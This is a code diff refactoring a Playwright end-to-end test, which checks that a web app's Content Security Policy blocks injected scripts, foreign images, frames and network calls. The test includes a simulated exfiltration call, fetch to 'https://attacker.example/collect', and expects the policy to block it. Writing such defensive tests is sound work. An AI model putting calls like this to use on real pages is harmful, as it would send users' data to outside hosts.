@@ -1,5 +1,5 @@
-import type { Page } from '@playwright/test';
 import { groupExpensesPath } from '@pg/contract/paths';
+import type { Page } from '@playwright/test';
 import { database } from '../support/database.ts';
 import { seeLive } from '../support/e2e/app.ts';
 import { expect, test } from '../support/e2e/fixtures.ts';
@@ -15,13 +15,14 @@ declare global {
 }
 
 /** Every page that is opened from now on notes what its policy refuses. */
-const noteViolations = (page: Page): Promise<void> =>
-  page.addInitScript(() => {
+async function noteViolations(page: Page): Promise<void> {
+  await page.addInitScript(() => {
     window.violations = [];
     document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
       window.violations.push(`${effectiveDirective} ${blockedURI}`);
     });
   });
+}
 const violations = (page: Page): Promise<string[]> => page.evaluate(() => window.violations);
 
 test('no screen breaks the policy, and what gets into one is blocked: scripts, foreign images, foreign calls', async ({
@@ -72,15 +73,17 @@ test('no screen breaks the policy, and what gets into one is blocked: scripts, f
     fetch('https://attacker.example/collect').catch(() => undefined);
   });
   await expect
-    .poll(async () => (await violations(page)).map((each) => each.split('/').slice(0, 3).join('/')).sort())
-    .toEqual([
-      'connect-src https://attacker.example',
-      'frame-src https://attacker.example',
-      'img-src https://attacker.example',
-      'script-src-attr inline',
-      'script-src-elem https://attacker.example',
-      'script-src-elem inline',
-    ]);
+    .poll(async () => new Set((await violations(page)).map((each) => each.split('/').slice(0, 3).join('/'))))
+    .toEqual(
+      new Set([
+        'connect-src https://attacker.example',
+        'frame-src https://attacker.example',
+        'img-src https://attacker.example',
+        'script-src-attr inline',
+        'script-src-elem https://attacker.example',
+        'script-src-elem inline',
+      ]),
+    );
   expect(await page.evaluate(() => window.owned)).toBeUndefined();
 });
 
